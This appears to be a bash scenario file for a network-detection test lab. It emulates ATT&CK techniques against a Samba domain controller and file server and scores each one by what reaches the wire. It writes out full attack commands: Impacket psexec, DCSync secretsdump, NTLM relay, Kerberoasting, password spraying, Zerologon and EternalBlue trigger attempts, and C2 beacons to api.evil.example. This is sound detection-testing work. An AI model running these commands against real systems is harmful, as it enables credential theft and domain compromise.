# SPDX-License-Identifier: GPL-2.0
# scenarios.sh: the scenarios of `make coverage`, sourced by scripts/coverage.sh
# after scripts/lab.sh (LAB_TOPO=hunt) is up. Each scenario is one line of
# the table below and one function; it runs on one host of the lab (client =
# the attacker, ws = the benign workstation) from its own source address
# (192.0.2.IDX and 2001:db8:{1,3}::IDX), which is how packets and hits are
# attributed to it. Labels are ATT&CK technique ids; a label only counts when
# tshark finds its evidence on the wire (scripts/coverage/truth.py).

SCEN_TOOL_TIMEOUT_S=${SCEN_TOOL_TIMEOUT_S:-60}
SCEN_HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)

#   name               side   idx kind   labels                            description | note
SCEN_TABLE=$(cat <<'TABLE'
benign_smb_browse     ws     71 benign -                                     A user lists the file server's shares (IPC$ + srvsvc), browses \\srv\public, reads and writes documents (SMB2)
benign_smb_v6         ws     72 benign -                                     The same user over IPv6: lists and copies a document on \\srv\public
benign_web            ws     73 benign -                                     Web browsing: HTTP and HTTPS (SNI www.example.com) to a benign server, IPv4 and IPv6
benign_dns            ws     74 benign -                                     DNS lookups of benign names (A and AAAA) at the resolver
benign_ssh            ws     75 benign -                                     An admin's SSH logon to the file server on port 22 (OpenSSH client, key refused)
admin_share_smb2      client 11 attack T1021.002,T1039,T1570                smbclient over SMB2: lists ADMIN$, reads C$\boot.ini, writes tool.exe to ADMIN$
admin_share_smb1      client 12 attack T1021.002                            smbclient -m NT1 (SMB1) lists ADMIN$
admin_share_139       client 13 attack T1021.002                            smbclient on port 139 (NetBIOS session service) lists C$
admin_share_v6        client 14 attack T1021.002                            smbclient over IPv6 lists ADMIN$
ads_tool              client 42 attack T1570,T1564.004                  smbclient writes executables into NTFS streams of a text file on ADMIN$ (notes.txt:payload.exe, :$DATA named too)
renamed_tool          client 43 attack T1570,T1036.008                  smbclient writes a PE image named update.dat to the file server's \\srv\public
shell_output          client 44 attack T1059.003,T1039                  smbclient reads ADMIN$\__<time> back as Impacket's wmiexec reads a command's output | Samba refuses the execution itself, so the output file is put on ADMIN$ first: scored on the read-back alone
smbmap_enum           client 15 attack T1135                                SMBMap share enumeration with permissions
smbmap_recursive      client 16 attack T1135,T1083                          SMBMap recursive listing of C$ (-R)
smbmap_download       client 17 attack T1039                                SMBMap download of C$\boot.ini
psexec                client 18 attack T1021.002,T1570,T1543.003,T1569.002 Impacket psexec: uploads a service binary to the first writable share, creates and starts a service over svcctl | Samba is not Windows: it refuses service creation (nca_s_op_rng_error), so only the client's upload and its RCreateServiceW request reach the wire, never an RStartServiceW (T1569.002); psexec picks the first writable share, here \\srv\public, not ADMIN$
smbexec               client 19 attack T1021.002,T1543.003,T1569.002       Impacket smbexec: creates a service whose command line runs the command | Samba refuses service creation: scored on the client's svcctl requests on the wire; no RStartServiceW follows, so T1569.002 is not produced
services_create       client 20 attack T1543.003,T1569.002                 Impacket services.py create and start of a service | Samba refuses service creation: scored on the client's requests on the wire; the start's ROpenServiceW fails, so no RStartServiceW (T1569.002) is sent
reg_query             client 21 attack T1012                                Impacket reg.py query of HKLM\SOFTWARE over winreg
reg_add               client 22 attack T1112                                Impacket reg.py add of a value under HKLM\SOFTWARE
atexec                client 23 attack T1053                                Impacket atexec: schedules a task over the atsvc pipe | Samba has no atsvc pipe: the pipe open fails, so only the client's CREATE of \atsvc reaches the wire
wmiexec               client 24 attack T1047,T1021.003                      Impacket wmiexec against the DC: DCOM activation of WbemLevel1Login on 135 | Samba rejects DCOM activation (bind to ISystemActivator: abstract syntax not supported), so only the client's bind reaches the wire, never the WMI activation itself (T1047)
dcomexec              client 25 attack T1021.003                            Impacket dcomexec (MMC20) against the DC | Samba rejects DCOM activation: scored on the client's bind to ISystemActivator, the only part that reaches the wire
samrdump              client 26 attack T1087                                Impacket samrdump against the DC: domain users over samr
lookupsid             client 27 attack T1087                                Impacket lookupsid against the DC: SID brute force over lsarpc
netview               client 28 attack T1049,T1087                          Impacket netview against the file server: sessions and logged-on users | netview polls until it is stopped: it runs 15 s, its first round, and exits 124
rpcdump               client 29 attack T1046                                Impacket rpcdump against the DC: endpoint mapper dump (ept_lookup)
rpcmap                client 30 attack T1046                                Impacket rpcmap against the DC's 135: interface enumeration (mgmt inq_if_ids)
secretsdump_dcsync    client 31 attack T1003.006                            Impacket secretsdump -just-dc: DCSync (DRSGetNCChanges) against the DC
smb_sweep             client 32 attack T1046                                Port-445 sweep of 64 addresses plus the two servers
port_scan             client 50 attack T1046                                nmap connect scan of the file server's 100 most common ports, as an intruder without root maps a target before moving to it
stealth_scan          client 56 attack T1046                                nmap NULL scan (-sN: probes without a TCP flag) of the DC's 100 most common ports, as a scanner that sends no SYN hopes to pass SYN-counting sensors
udp_scan              client 57 attack T1046                                nmap UDP scan (-sU) of the DC's 100 most common UDP ports: empty datagrams to those nmap has no payload for, as an intruder looks for SNMP, TFTP or NetBIOS to abuse
rdp_sweep             client 51 attack T1046                                RDP (3389) sweep of 64 addresses plus the two servers, as an intruder looks for hosts to move to over RDP
zerologon             client 46 attack T1210                                Zerologon's netlogon tries against the DC (NetrServerAuthenticate3 with a zero credential, Impacket's nrpc as the public testers send them), and one with a random credential | Samba is patched: it refuses every try; scored on the client's requests
ms17_010_scan         client 45 attack T1210                                nmap's smb-vuln-ms17-010 and smb-double-pulsar-backdoor against the file server, then EternalBlue's transaction pair (eternalblue_try.py): the SMB1 check, DoublePulsar ping and exploit trigger of WannaCry-style tooling | Samba is not vulnerable: scored on the client's requests
account_manipulation  client 47 attack T1136,T1098,T1098.007              Accounts made and changed over SAMR against the DC: Impacket addcomputer.py -method SAMR (a machine account and its password), then Guest put into Builtin\Administrators (samr_group_join.py)
smb_brute_force       client 48 attack T1110                                Password guessing over SMB: smbclient logs on to the file server 12 times with wrong passwords, one after the other
kerberos_spray        client 52 attack T1110.003                            Kerberos password spray against the DC's KDC, as kerbrute sends it: one password over the administrator and six unknown accounts, in turn (kerberos_spray.py, Impacket's AS-REQs over TCP)
kerberos_guess        client 53 attack T1110.001                            Kerberos password guessing against the DC's KDC: twelve passwords tried on one account, one after the other (kerberos_spray.py --tries 12, Impacket's AS-REQs over TCP)
asrep_roast           client 54 attack T1558.004                            AS-REP roasting: Impacket's GetNPUsers asks the DC's KDC for TGTs without pre-authentication for the administrator, an unknown name and an account made without the requirement (DONT_REQ_PREAUTH), whose AS-REP it prints as a hash to crack
kerberoast            client 55 attack T1558.003                            Kerberoasting: with the administrator's TGT (MIT kinit), MIT kvno asks the DC's KDC for a service ticket to a user account's SPN (MSSQLSvc/db1.hunt.test:1433), which the KDC issues in RC4, as Windows does for an account nobody configured for AES | Impacket 0.10's GetUserSPNs cannot ask this Samba for tickets (KRB_AP_ERR_INAPP_CKSUM), so MIT's client asks: the ticket on the wire is the same
c2_http_v4            client 33 attack T1071.001                            HTTP beacons (GET, POST) to the C2 address
c2_https_sni_v4       client 34 attack T1071.001,T1573                      HTTPS beacon to the C2 address, SNI api.evil.example
c2_dns                client 35 attack T1071.004                            DNS beacons: A and TXT queries under evil.example at the resolver
c2_udp                client 36 attack T1095                                UDP beacons to the UDP C2 address (port 4444)
c2_http_v6            client 37 attack T1071.001                            HTTP beacon to the C2 over IPv6
c2_https_sni_v6       client 38 attack T1071.001,T1573                      HTTPS beacon to the C2 over IPv6, SNI api.evil.example
c2_vlan               client 39 attack T1071.001,T1573,T1071.004            802.1Q-tagged C2 frames (VLAN 42): TLS ClientHello to the C2, DNS query, IPv6 HTTP SYN (crafted with scapy; the kernel has no 802.1Q module)
c2_tls_port           client 41 attack T1071.001,T1573,T1571            HTTPS beacon to the C2 address on port 7443, SNI api.evil.example
ssh_port              client 49 attack T1571                                SSH out to an internet host on port 2222, IPv4 and IPv6 (OpenSSH client), as a tunnel or a hand-run session off SSH's port
ntlm_relay            client 58 attack T1557.001                            NTLM relay: Impacket's smbrelayx on the attacker relays the workstation's SMB logon to it (smbclient, as a victim of name poisoning connects) to the file server, as Lazarus's AiTM step | smbrelayx, not ntlmrelayx: Debian does not package ntlmrelayx's dsinternals
smb3_encrypted_exec   client 40 attack T1021.002,T1570,T1569.002           psexec and smbclient against a file server that offers SMB3 encryption | Encrypted SMB3: the flow is seen (smb.encrypted), its content (shares, files, svcctl) is opaque to tshark and to xdphunt alike
TABLE
)

scen_count() { grep -c . <<<"$SCEN_TABLE"; }

# scen_addr SIDE IDX: "v4 v6" source addresses of a scenario.
scen_addr() {
	case "$1" in
	client) echo "192.0.2.$2 2001:db8:1::$2" ;;
	ws) echo "192.0.2.$2 2001:db8:3::$2" ;;
	esac
}

# scen_source SIDE IDX: route from that address from now on.
scen_source() {
	local a4 a6 g4 g6
	read -r a4 a6 <<<"$(scen_addr "$1" "$2")"
	case "$1" in
	client) g4=192.0.2.1 g6=2001:db8:1::1 ;;
	ws) g4=192.0.2.65 g6=2001:db8:3::1 ;;
	esac
	lab_exec "$1" ip route replace default via "$g4" src "$a4" &&
		lab_exec "$1" ip -6 route replace default via "$g6" src "$a6"
}

# run NAME CMD...: one client tool in the scenario's host, bounded; its exit
# status is recorded, not judged (the wire is what counts). In the background
# and waited for: timeout(1) puts the tool in its own process group, so a
# Ctrl-C never reaches it, and bash runs no trap until a foreground command
# ends; `wait` returns at once on a signal and teardown stops SCEN_TOOL_PID.
SCEN_TOOL_PID=
run() {
	local name=$1 rc
	shift
	timeout -k 5 "$SCEN_TOOL_TIMEOUT_S" ip netns exec "$(lab_ns "$SCEN_SIDE")" "$@" </dev/null \
		>"$SCEN_DIR/$SCEN_NAME.$name.out" 2>&1 &
	SCEN_TOOL_PID=$!
	wait "$SCEN_TOOL_PID"
	rc=$?
	SCEN_TOOL_PID=
	echo "$SCEN_NAME $name $rc" >>"$SCEN_DIR/status"
}

SMB_U() { echo "$LAB_SMB_USER%$LAB_SMB_PASS"; }
DC_CRED() { echo "$DCLAB_DOMAIN/$DCLAB_ADMIN:$DCLAB_PASS@$LAB_DC_IP4"; }
FS_CRED() { echo "$LAB_SMB_USER:$LAB_SMB_PASS@$LAB_SERVER_IP4"; }
SMBC() { echo smbclient -s "$LAB_CLIENT_CONF" -U "$(SMB_U)"; }

sc_benign_smb_browse() {
	echo "quarterly figures" >"$SCEN_DIR/notes.txt"
	run list $(SMBC) -L "$LAB_SERVER_IP4"
	run ls $(SMBC) "//$LAB_SERVER_IP4/public" -c 'ls; get readme.txt /dev/null'
	run put $(SMBC) "//$LAB_SERVER_IP4/public" -c "put $SCEN_DIR/notes.txt notes-$$.txt; ls"
}
sc_benign_smb_v6() {
	run ls6 $(SMBC) -I "$LAB_SERVER_IP6" "//xhsrv/public" -c 'ls; get readme.txt /dev/null'
}
sc_benign_web() {
	run http4 curl -s -m 5 "http://$LAB_WEB_IP4/index.html"
	run https4 curl -sk -m 5 --resolve "www.example.com:443:$LAB_WEB_IP4" https://www.example.com/
	run http6 curl -s -m 5 "http://[$LAB_WEB_IP6]/"
	run https6 curl -sk -m 5 --resolve "www.example.com:443:[$LAB_WEB_IP6]" https://www.example.com/
}
sc_benign_dns() {
	run dns /usr/bin/python3 "$SCEN_HERE/dnsq.py" "$LAB_DNS_IP4" www.example.com:A \
		www.example.com:AAAA mail.example.org:A
}
SSHC() { echo ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10; }
sc_benign_ssh() {
	run ssh $(SSHC) -p 22 "admin@$LAB_SERVER_IP4" true
}
sc_ssh_port() {
	run ssh4 $(SSHC) -p 2222 "root@$LAB_WEB_IP4" true
	run ssh6 $(SSHC) -p 2222 "root@$LAB_WEB_IP6" true
}
sc_admin_share_smb2() {
	head -c 4096 /dev/urandom >"$SCEN_DIR/tool.exe"
	run admin $(SMBC) "//$LAB_SERVER_IP4/ADMIN\$" -c ls
	run c $(SMBC) "//$LAB_SERVER_IP4/C\$" -c 'get boot.ini /dev/null'
	run put $(SMBC) "//$LAB_SERVER_IP4/ADMIN\$" -c "put $SCEN_DIR/tool.exe tool.exe"
}
sc_ads_tool() {
	# Small: streams_xattr keeps a stream in an extended attribute, all of
	# which fit in one ext4 block.
	head -c 512 /dev/urandom >"$SCEN_DIR/small.exe"
	echo "meeting notes" >"$SCEN_DIR/notes.txt"
	run ads $(SMBC) "//$LAB_SERVER_IP4/ADMIN\$" -c "put $SCEN_DIR/notes.txt notes.txt; \
put $SCEN_DIR/small.exe notes.txt:payload.exe; put $SCEN_DIR/small.exe \"notes.txt:helper.dll:\$DATA\""
}
sc_zerologon() {
	run tries /usr/bin/python3 "$SCEN_HERE/zerologon_try.py" "$LAB_DC_IP4" DC1 3
}
sc_account_manipulation() {
	# addcomputer.py names the account DESKTOP-<random>: a new one each
	# run (the rounds under load run every scenario again on the same DC)
	run addcomputer /usr/bin/python3 "$IMP/addcomputer.py" -method SAMR \
		-dc-ip "$LAB_DC_IP4" "$DCLAB_DOMAIN/$DCLAB_ADMIN:$DCLAB_PASS"
	run join /usr/bin/python3 "$SCEN_HERE/samr_group_join.py" "$LAB_DC_IP4" "$DCLAB_DOMAIN" \
		"$DCLAB_ADMIN" "$DCLAB_PASS" Guest
}
sc_smb_brute_force() {
	local i
	for i in $(seq 1 12); do
		run "guess$i" smbclient -s "$LAB_CLIENT_CONF" -N -U "$LAB_SMB_USER%wrong-$i" \
			"//$LAB_SERVER_IP4/public" -c ls
	done
}
sc_kerberos_spray() {
	run spray /usr/bin/python3 "$SCEN_HERE/kerberos_spray.py" "$LAB_DC_IP4" "$DCLAB_REALM" \
		'Spring2026!' "$DCLAB_ADMIN" xh.nobody1 "$DCLAB_ADMIN" xh.nobody2 "$DCLAB_ADMIN" \
		xh.nobody3 "$DCLAB_ADMIN" xh.nobody4 "$DCLAB_ADMIN" xh.nobody5 "$DCLAB_ADMIN" xh.nobody6
}
sc_kerberos_guess() {
	run guess /usr/bin/python3 "$SCEN_HERE/kerberos_spray.py" --tries 12 "$LAB_DC_IP4" \
		"$DCLAB_REALM" 'Winter2026!' "$DCLAB_ADMIN"
}
sc_asrep_roast() {
	# made in the DC's database: no traffic of its own
	dclab_user_no_preauth xhroast 'Xh-Roast-Pass1!' >"$SCEN_DIR/asrep_roast.user.out" 2>&1
	printf '%s\n' "$DCLAB_ADMIN" xhroast xh.nobody7 >"$SCEN_DIR/asrep_roast.users"
	run roast /usr/bin/python3 "$IMP/GetNPUsers.py" "$DCLAB_REALM/" -no-pass -usersfile \
		"$SCEN_DIR/asrep_roast.users" -dc-ip "$LAB_DC_IP4" -format hashcat
}
sc_kerberoast() {
	local env="KRB5_CONFIG=$SCEN_DIR/kerberoast.krb5.conf KRB5CCNAME=$SCEN_DIR/kerberoast.cc"
	# made in the DC's database: no traffic of its own
	dclab_user_spn xhsvc 'Xh-Svc-Pass1!' MSSQLSvc/db1.hunt.test:1433 \
		>"$SCEN_DIR/kerberoast.user.out" 2>&1
	dclab_krb5_conf "$SCEN_DIR/kerberoast.krb5.conf"
	# kinit reads the password on stdin, which run closes
	run tgt env $env sh -c 'printf "%s\n" "$1" | kinit "$2"' sh "$DCLAB_PASS" \
		"$DCLAB_ADMIN@$DCLAB_REALM"
	run tgs env $env kvno "MSSQLSvc/db1.hunt.test:1433@$DCLAB_REALM"
}
sc_ms17_010_scan() {
	run nmap nmap -n -Pn -p 445 --script smb-vuln-ms17-010,smb-double-pulsar-backdoor \
		--script-args "smbusername=$LAB_SMB_USER,smbpassword=$LAB_SMB_PASS" "$LAB_SERVER_IP4"
	run eternalblue /usr/bin/python3 "$SCEN_HERE/eternalblue_try.py" "$LAB_SERVER_IP4" \
		"$LAB_SMB_USER" "$LAB_SMB_PASS"
}
sc_renamed_tool() {
	lab_pe_image "$SCEN_DIR/update.dat"
	run put $(SMBC) "//$LAB_SERVER_IP4/public" -c "put $SCEN_DIR/update.dat update.dat"
}
sc_shell_output() {
	echo 'xhlab\hunter' >"$SCEN_DIR/__1700000000.12"
	run get $(SMBC) "//$LAB_SERVER_IP4/ADMIN\$" -c \
		"put $SCEN_DIR/__1700000000.12 __1700000000.12; get __1700000000.12 /dev/null"
}
sc_admin_share_smb1() { run nt1 $(SMBC) -m NT1 "//$LAB_SERVER_IP4/ADMIN\$" -c ls; }
sc_admin_share_139() { run p139 $(SMBC) -p 139 "//$LAB_SERVER_IP4/C\$" -c ls; }
sc_admin_share_v6() { run v6 $(SMBC) -I "$LAB_SERVER_IP6" "//xhsrv/ADMIN\$" -c ls; }
sc_smbmap_enum() { run smbmap smbmap -H "$LAB_SERVER_IP4" -u "$LAB_SMB_USER" -p "$LAB_SMB_PASS"; }
sc_smbmap_recursive() {
	run smbmap smbmap -H "$LAB_SERVER_IP4" -u "$LAB_SMB_USER" -p "$LAB_SMB_PASS" -R 'C$'
}
sc_smbmap_download() {
	run smbmap smbmap -H "$LAB_SERVER_IP4" -u "$LAB_SMB_USER" -p "$LAB_SMB_PASS" \
		--download 'C$\boot.ini'
}
sc_psexec() { run psexec /usr/bin/python3 "$IMP/psexec.py" "$(FS_CRED)" whoami; }
sc_smbexec() { run smbexec /usr/bin/python3 "$IMP/smbexec.py" "$(FS_CRED)"; }
sc_services_create() {
	run create /usr/bin/python3 "$IMP/services.py" "$(FS_CRED)" create -name xhsvc \
		-display xhsvc -path 'C:\Windows\Temp\tool.exe'
	run start /usr/bin/python3 "$IMP/services.py" "$(FS_CRED)" start -name xhsvc
}
sc_reg_query() {
	run reg /usr/bin/python3 "$IMP/reg.py" "$(FS_CRED)" query -keyName 'HKLM\SOFTWARE'
}
sc_reg_add() {
	run reg /usr/bin/python3 "$IMP/reg.py" "$(FS_CRED)" add -keyName 'HKLM\SOFTWARE' \
		-v Run -vt REG_SZ -vd 'C:\Windows\Temp\tool.exe'
}
sc_atexec() { run atexec /usr/bin/python3 "$IMP/atexec.py" "$(FS_CRED)" whoami; }
sc_wmiexec() { run wmiexec /usr/bin/python3 "$IMP/wmiexec.py" -nooutput "$(DC_CRED)" whoami; }
sc_dcomexec() { run dcomexec /usr/bin/python3 "$IMP/dcomexec.py" -nooutput "$(DC_CRED)" whoami; }
sc_samrdump() { run samrdump /usr/bin/python3 "$IMP/samrdump.py" "$(DC_CRED)"; }
sc_lookupsid() { run lookupsid /usr/bin/python3 "$IMP/lookupsid.py" "$(DC_CRED)" 600; }
sc_netview() {
	# netview polls forever: its first round is all the traffic it makes
	SCEN_TOOL_TIMEOUT_S=15 run netview /usr/bin/python3 "$IMP/netview.py" \
		-target "$LAB_SERVER_IP4" "XHLAB/$LAB_SMB_USER:$LAB_SMB_PASS"
}
sc_rpcdump() { run rpcdump /usr/bin/python3 "$IMP/rpcdump.py" "$(DC_CRED)"; }
sc_rpcmap() { run rpcmap /usr/bin/python3 "$IMP/rpcmap.py" "ncacn_ip_tcp:$LAB_DC_IP4[135]"; }
sc_secretsdump_dcsync() {
	run secretsdump /usr/bin/python3 "$IMP/secretsdump.py" -just-dc "$(DC_CRED)"
}
sc_smb_sweep() {
	run sweep /usr/bin/python3 "$SCEN_HERE/sweep.py" --port 445 "${LAB_SWEEP_NET4%/*}/26" \
		"$LAB_SERVER_IP4" "$LAB_DC_IP4"
}
sc_rdp_sweep() {
	run sweep /usr/bin/python3 "$SCEN_HERE/sweep.py" --port 3389 "${LAB_SWEEP_NET4%/*}/26" \
		"$LAB_SERVER_IP4" "$LAB_DC_IP4"
}
sc_port_scan() {
	run nmap nmap -n -Pn -sT --top-ports 100 "$LAB_SERVER_IP4"
}
sc_stealth_scan() {
	run nmap nmap -n -Pn -sN --top-ports 100 "$LAB_DC_IP4"
}
sc_udp_scan() {
	# --min-rate: the DC answers "port unreachable" a second apart, which
	# would make nmap wait minutes
	run nmap nmap -n -Pn -sU --top-ports 100 --max-retries 1 --min-rate 200 "$LAB_DC_IP4"
}
sc_c2_http_v4() {
	run get curl -s -m 5 "http://$LAB_C2_IP4/jquery-3.3.1.min.js"
	run post curl -s -m 5 -d 'id=4242&st=1' "http://$LAB_C2_IP4/submit.php"
}
sc_c2_https_sni_v4() {
	run https curl -sk -m 5 --resolve "api.evil.example:443:$LAB_C2_IP4" \
		https://api.evil.example/beacon
}
sc_c2_dns() {
	run dns /usr/bin/python3 "$SCEN_HERE/dnsq.py" "$LAB_DNS_IP4" 4a2f.beacon.evil.example:A \
		4a30.beacon.evil.example:TXT update.evil.example:AAAA
}
sc_c2_udp() {
	run udp /usr/bin/python3 "$SCEN_HERE/dnsq.py" --udp "$LAB_C2_UDP_IP4:$LAB_C2_UDP_PORT" x x x
}
sc_c2_tls_port() {
	run https curl -sk -m 5 --resolve "api.evil.example:7443:$LAB_C2_IP4" \
		https://api.evil.example:7443/beacon
}
sc_c2_http_v6() { run get curl -s -m 5 "http://[$LAB_C2_IP6]/index.php?id=4242"; }
sc_c2_https_sni_v6() {
	run https curl -sk -m 5 --resolve "api.evil.example:443:[$LAB_C2_IP6]" \
		https://api.evil.example/beacon
}
sc_c2_vlan() {
	local a4 a6 gmac
	read -r a4 a6 <<<"$(scen_addr "$SCEN_SIDE" "$SCEN_IDX")"
	gmac=$(lab_mac "${LAB_PFX}gc" "$LAB_NS_GW")
	run vlan /usr/bin/python3 "$SCEN_HERE/vlan_c2.py" --iface "$LAB_IF_CLIENT" --vlan 42 \
		--dst-mac "$gmac" --src4 "$a4" --src6 "$a6" --c2-4 "$LAB_C2_IP4" --c2-6 "$LAB_C2_IP6" \
		--dns "$LAB_DNS_IP4" --name api.evil.example
}
sc_ntlm_relay() {
	local a4 a6 pid i
	read -r a4 a6 <<<"$(scen_addr "$SCEN_SIDE" "$SCEN_IDX")"
	# the relay's server on the attacker (its connection to the target
	# leaves from this scenario's address); it then tries to run a
	# command through svcctl, which Samba refuses
	lab_bg client "$SCEN_DIR/$SCEN_NAME.relayx.out" /usr/bin/python3 "$IMP/smbrelayx.py" \
		-h "$LAB_SERVER_IP4" -c "echo xdphunt" -one-shot
	pid=$LAB_LAST_PID
	lab_wait_listen client 445
	# the victim: the workstation opens a share on the attacker
	lab_exec ws timeout 30 $(SMBC) "//$a4/public" -c ls >"$SCEN_DIR/$SCEN_NAME.victim.out" 2>&1
	echo "$SCEN_NAME victim $?" >>"$SCEN_DIR/status"
	for ((i = 0; i < 50; i++)); do
		grep -q "Authenticating against $LAB_SERVER_IP4 .* SUCCEED" \
			"$SCEN_DIR/$SCEN_NAME.relayx.out" && break
		sleep 0.1
	done
	# smbrelayx's threads do not stop on SIGTERM
	{ lab_stop_pid "$pid" KILL; } 2>/dev/null
}
sc_smb3_encrypted_exec() {
	# smbd restarted offering encryption: smbclient -e and Impacket use it.
	lab_stop_pid "$LAB_SMBD_PID" TERM
	sed -i 's/server smb encrypt = off/server smb encrypt = desired/' "$LAB_SMB_CONF"
	lab_bg server "$SCEN_DIR/smbd-encrypt.out" smbd -F --no-process-group --debug-stdout \
		-s "$LAB_SMB_CONF"
	LAB_SMBD_PID=$LAB_LAST_PID
	lab_save_state
	lab_wait_listen server 445
	head -c 4096 /dev/urandom >"$SCEN_DIR/tool.exe"
	run put $(SMBC) --client-protection=encrypt -m SMB3 "//$LAB_SERVER_IP4/ADMIN\$" \
		-c "put $SCEN_DIR/tool.exe tool.exe"
	run psexec /usr/bin/python3 "$IMP/psexec.py" "$(FS_CRED)" whoami
	lab_stop_pid "$LAB_SMBD_PID" TERM
	sed -i 's/server smb encrypt = desired/server smb encrypt = off/' "$LAB_SMB_CONF"
	lab_bg server "$SCEN_DIR/smbd.out" smbd -F --no-process-group --debug-stdout -s "$LAB_SMB_CONF"
	LAB_SMBD_PID=$LAB_LAST_PID
	lab_save_state
	lab_wait_listen server 445
}

# scen_run_all all|attack MANIFEST DIR: run the scenarios one after the
# other; one JSON line per scenario in MANIFEST.
scen_run_all() {
	local which=$1 manifest=$2 name side idx kind labels rest desc note a4 a6 t0
	SCEN_DIR=$3
	mkdir -p "$SCEN_DIR"
	while read -r name side idx kind labels rest; do
		[ -n "$name" ] || continue
		[ "$which" = attack ] && [ "$kind" = benign ] && continue
		desc=${rest%% | *}
		note=
		[ "$desc" != "$rest" ] && note=${rest#* | }
		[ "$labels" = - ] && labels=
		SCEN_NAME=$name SCEN_SIDE=$side SCEN_IDX=$idx
		read -r a4 a6 <<<"$(scen_addr "$side" "$idx")"
		scen_source "$side" "$idx" || { log "cannot route from $a4"; return 1; }
		t0=$(date +%s.%N)
		"sc_$name"
		sleep 0.5
		/usr/bin/python3 - "$name" "$kind" "$labels" "$desc" "$note" "$a4" "$a6" "$side" "$t0" \
			"$(date +%s.%N)" "$SCEN_DIR" >>"$manifest" <<'PY'
import json, os, sys
n, kind, labels, desc, note, a4, a6, side, t0, t1, d = sys.argv[1:]
# The tools' exit statuses and last output line: a label "not on the wire"
# is only the lab's limit when the tool actually ran.
tools = []
st = os.path.join(d, "status")
with open(st if os.path.exists(st) else os.devnull) as f:
    for line in f:
        w = line.split()
        if len(w) == 3 and w[0] == n:
            try:
                with open(os.path.join(d, "%s.%s.out" % (n, w[1])), errors="replace") as o:
                    last = ([x.strip() for x in o.read().replace("\r", "\n").splitlines()
                             if x.strip()] or [""])[-1][:200]
            except OSError:
                last = ""
            tools.append({"run": w[1], "rc": int(w[2]), "last": last})
print(json.dumps({"name": n, "benign": kind == "benign", "techniques": [l for l in labels.split(",") if l],
                  "description": desc, "note": note, "addrs": [a4, a6], "side": side,
                  "t0": float(t0), "t1": float(t1), "tools": tools}))
PY
		log "scenario $name done ($(grep -c "^$name " "$SCEN_DIR/status" 2>/dev/null) tool runs)"
	done <<<"$SCEN_TABLE"
}
